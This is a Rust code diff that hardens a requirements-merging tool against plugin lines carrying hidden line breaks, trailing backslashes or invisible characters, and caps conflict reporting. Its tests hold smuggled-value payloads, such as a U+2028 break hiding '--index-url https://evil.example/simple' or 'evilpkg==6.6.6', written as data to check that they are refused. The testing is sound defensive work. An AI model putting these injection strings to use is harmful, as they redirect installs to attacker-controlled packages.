@@ -77,6 +77,8 @@ pub struct RequirementSet {
     pub apt_packages: Vec<String>,
     pub notes: Vec<Note>,
     pub conflicts: Vec<Conflict>,
+    /// Conflicting lines past [`MAX_CONFLICTS_PER_PACKAGE`] in a package, not shown.
+    pub conflicts_omitted: usize,
 }
 
 impl RequirementSet {
@@ -142,7 +144,7 @@ pub fn merge(sources: &[Sourced], platform: &Platform) -> Result<RequirementSet,
                 plugin: s.plugin.clone(),
             }));
     }
-    set.conflicts = conflicts(&parsed, platform);
+    (set.conflicts, set.conflicts_omitted) = conflicts(&parsed, platform);
     Ok(set)
 }
 
@@ -152,6 +154,12 @@ pub fn merge(sources: &[Sourced], platform: &Platform) -> Result<RequirementSet,
 /// `uv export` prints them). Else the parsed requirement, without its per-requirement
 /// options (`--hash=sha256:…`, `--config-settings …`), which pip reads apart from it.
 fn parse_line(line: &Line) -> Result<Option<Requirement>, InvalidLine> {
+    check_line_text(&line.text).map_err(|reason| InvalidLine {
+        text: escape_text(&line.text),
+        origin: line.origin.clone(),
+        plugin: line.plugin.clone(),
+        reason,
+    })?;
     if line.text.starts_with('-') || line.text.starts_with('#') {
         return Ok(None);
     }
@@ -191,6 +199,68 @@ fn is_path_or_url(requirement: &str) -> bool {
     target.starts_with(['.', '/', '~']) || archive || url && !target.contains(" @ ")
 }
 
+/// A line that pip and uv read as exactly one line, as Dockwright shows it: no character
+/// they take for a line break (Python's `str.splitlines` breaks at VT, FF, FS, GS, RS, NEL,
+/// U+2028 and U+2029 as well as at `\n` and `\r`), no trailing `\` (pip joins the next line
+/// to it), and nothing that hides or reorders text on screen (zero-width and bidi controls).
+pub fn check_line_text(text: &str) -> Result<(), String> {
+    if let Some(c) = text.chars().find(|&c| hidden_or_breaking(c)) {
+        return Err(format!(
+            "contains U+{:04X}, a control character or one that pip or uv may read as a line \
+             break or that hides text on screen",
+            c as u32
+        ));
+    }
+    if text.trim_end().ends_with('\\') {
+        return Err("ends in `\\`, which makes pip join the next line to it".into());
+    }
+    Ok(())
+}
+
+/// Control characters, Unicode line and paragraph separators, and format characters
+/// (Unicode category Cf: zero-width, bidi, invisible operators, tags).
+pub fn hidden_or_breaking(c: char) -> bool {
+    c.is_control()
+        || matches!(
+            c,
+            '\u{2028}'
+                | '\u{2029}'
+                | '\u{00AD}'
+                | '\u{0600}'..='\u{0605}'
+                | '\u{061C}'
+                | '\u{06DD}'
+                | '\u{070F}'
+                | '\u{08E2}'
+                | '\u{180E}'
+                | '\u{200B}'..='\u{200F}'
+                | '\u{202A}'..='\u{202E}'
+                | '\u{2060}'..='\u{2064}'
+                | '\u{2066}'..='\u{206F}'
+                | '\u{FEFF}'
+                | '\u{FFF9}'..='\u{FFFB}'
+                | '\u{110BD}'
+                | '\u{110CD}'
+                | '\u{1BCA0}'..='\u{1BCA3}'
+                | '\u{1D173}'..='\u{1D17A}'
+                | '\u{E0001}'
+                | '\u{E0020}'..='\u{E007F}'
+        )
+}
+
+/// `text` with every [`hidden_or_breaking`] character shown as `\u{…}`, for messages: text
+/// from a plugin must not forge lines or send escapes to the terminal.
+pub fn escape_text(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if hidden_or_breaking(c) {
+            out.push_str(&format!("\\u{{{:x}}}", c as u32));
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
 /// The marker environment of the target, when the Python version is known.
 fn marker_environment(platform: &Platform) -> Option<MarkerEnvironment> {
     let python = platform.python_version.as_str();
@@ -218,10 +288,15 @@ fn marker_environment(platform: &Platform) -> Option<MarkerEnvironment> {
     .ok()
 }
 
+/// Conflicts reported per package at most; the rest are counted in
+/// [`RequirementSet::conflicts_omitted`].
+pub const MAX_CONFLICTS_PER_PACKAGE: usize = 10;
+
 /// Pairs of lines from different origins whose version ranges do not intersect. Lines whose
 /// markers do not apply to the target (or cannot be evaluated, when the target's Python is
 /// unknown) and URL requirements are left out, so compatible inputs never raise an alarm.
-fn conflicts(parsed: &[(Requirement, Line)], platform: &Platform) -> Vec<Conflict> {
+/// Returns the conflicts shown and how many more lines conflict.
+fn conflicts(parsed: &[(Requirement, Line)], platform: &Platform) -> (Vec<Conflict>, usize) {
     let env = marker_environment(platform);
     let mut by_package: BTreeMap<String, Vec<(Ranges<Version>, &Line)>> = BTreeMap::new();
     for (requirement, line) in parsed {
@@ -243,20 +318,60 @@ fn conflicts(parsed: &[(Requirement, Line)], platform: &Platform) -> Vec<Conflic
         }
     }
     let mut found = Vec::new();
+    let mut omitted = 0;
     for (package, ranges) in &by_package {
-        for (i, (a, line_a)) in ranges.iter().enumerate() {
-            for (b, line_b) in &ranges[i + 1..] {
-                if line_a.origin != line_b.origin && a.intersection(b).is_empty() {
-                    found.push(Conflict {
-                        package: package.clone(),
-                        first: (*line_a).clone(),
-                        second: (*line_b).clone(),
-                    });
-                }
-            }
+        omitted += package_conflicts(package, &distinct(ranges), &mut found);
+    }
+    (found, omitted)
+}
+
+/// The first line of each distinct (range, origin): a hundred origins pinning the same
+/// version are one entry per origin, not a hundred pairs to compare.
+fn distinct<'a>(ranges: &[(Ranges<Version>, &'a Line)]) -> Vec<(Ranges<Version>, &'a Line)> {
+    let mut seen = HashSet::new();
+    ranges
+        .iter()
+        .filter(|(range, line)| seen.insert((range.to_string(), line.origin.as_str())))
+        .cloned()
+        .collect()
+}
+
+/// The conflicts of one package's lines, in linear time for the usual cases: the lines so far
+/// are intersected as they come, and only a line that empties the intersection is compared
+/// with the earlier lines to name the one it cannot hold with. After
+/// [`MAX_CONFLICTS_PER_PACKAGE`] conflicts, further conflicting lines are only counted
+/// (returned), without looking for their partner.
+fn package_conflicts(
+    package: &str,
+    ranges: &[(Ranges<Version>, &Line)],
+    found: &mut Vec<Conflict>,
+) -> usize {
+    let mut all = Ranges::full();
+    let mut shown = 0;
+    let mut omitted = 0;
+    for (i, (range, line)) in ranges.iter().enumerate() {
+        let together = all.intersection(range);
+        if !together.is_empty() {
+            all = together;
+            continue;
+        }
+        if shown == MAX_CONFLICTS_PER_PACKAGE {
+            omitted += 1;
+            continue;
+        }
+        let partner = ranges[..i].iter().find(|(earlier, other)| {
+            other.origin != line.origin && earlier.intersection(range).is_empty()
+        });
+        if let Some((_, first)) = partner {
+            found.push(Conflict {
+                package: package.to_string(),
+                first: (*first).clone(),
+                second: (*line).clone(),
+            });
+            shown += 1;
         }
     }
-    found
+    omitted
 }
 
 #[cfg(test)]
@@ -377,6 +492,111 @@ mod tests {
             texts(&merge(&sources, &py311()).unwrap(), Group::Requirements).len(),
             2
         );
+    }
+
+    /// N lines pinning N versions of one package under N origins are N² conflicting pairs;
+    /// a few are shown (each line with an earlier one it cannot hold with), the rest counted.
+    #[test]
+    fn many_conflicting_lines_are_found_in_linear_time_and_capped() {
+        let lines: Vec<(String, String)> = (0..5000)
+            .map(|i| {
+                (
+                    format!("numpy==1.{}.{}", i / 100, i % 100),
+                    format!("origin {i}"),
+                )
+            })
+            .collect();
+        let lines: Vec<(&str, &str)> = lines
+            .iter()
+            .map(|(l, o)| (l.as_str(), o.as_str()))
+            .collect();
+        let sources = [source("acme 1.0.0", Group::Requirements, &lines, &[])];
+        let started = std::time::Instant::now();
+        let set = merge(&sources, &py311()).unwrap();
+        assert!(
+            started.elapsed() < std::time::Duration::from_secs(5),
+            "{:?}",
+            started.elapsed()
+        );
+        assert_eq!(set.conflicts.len(), MAX_CONFLICTS_PER_PACKAGE);
+        assert_eq!(set.conflicts_omitted, 5000 - 1 - MAX_CONFLICTS_PER_PACKAGE);
+        let c = &set.conflicts[0];
+        assert_eq!(
+            (c.first.text.as_str(), c.second.text.as_str()),
+            ("numpy==1.0.0", "numpy==1.0.1")
+        );
+    }
+
+    #[test]
+    fn each_conflicting_line_is_reported_once_with_the_first_line_it_cannot_hold_with() {
+        let sources = [source(
+            "acme 1.0.0",
+            Group::Requirements,
+            &[
+                ("numpy>=1", "a"),
+                ("numpy<1", "b"),
+                ("numpy>=1.5", "c"),
+                ("numpy<2", "d"),
+            ],
+            &[],
+        )];
+        let set = merge(&sources, &py311()).unwrap();
+        let pairs: Vec<(&str, &str)> = set
+            .conflicts
+            .iter()
+            .map(|c| (c.first.origin.as_str(), c.second.origin.as_str()))
+            .collect();
+        assert_eq!(pairs, [("a", "b")]);
+        assert_eq!(set.conflicts_omitted, 0);
+    }
+
+    /// Each of these makes pip or uv read something other than the one line Dockwright
+    /// shows: a hidden option or requirement after a line break only Python sees, a line
+    /// joined to the next, text hidden or reordered on screen.
+    #[test]
+    fn lines_that_pip_would_read_differently_are_refused_naming_the_origin() {
+        for text in [
+            "numpy\u{2028}--index-url https://evil.example/simple",
+            "numpy\u{2029}evilpkg==6.6.6",
+            "numpy\u{85}evilpkg==6.6.6",
+            "numpy\u{b}evilpkg==6.6.6",
+            "numpy\u{c}evilpkg==6.6.6",
+            "numpy\u{1e}evilpkg==6.6.6",
+            "pandas \\",
+            "nu\u{200b}mpy",
+            "numpy\u{202e}6.6.6==",
+            "numpy\u{2066}",
+            "\u{feff}numpy",
+        ] {
+            let sources = [source(
+                "acme 1.0.0",
+                Group::Integrations,
+                &[(text, "acme")],
+                &[],
+            )];
+            let err = merge(&sources, &py311()).unwrap_err();
+            assert_eq!(
+                (err.origin.as_str(), err.plugin.as_str()),
+                ("acme", "acme 1.0.0")
+            );
+            assert!(
+                !err.to_string().chars().any(hidden_or_breaking),
+                "the message shows the text escaped: {err}"
+            );
+        }
+        for text in [
+            "numpy==1.26.4 ; python_version >= '3.9'",
+            "# naïve, café",
+            "-c c.txt",
+        ] {
+            let sources = [source(
+                "acme 1.0.0",
+                Group::Integrations,
+                &[(text, "acme")],
+                &[],
+            )];
+            assert!(merge(&sources, &py311()).is_ok(), "{text}");
+        }
     }
 
     #[test]
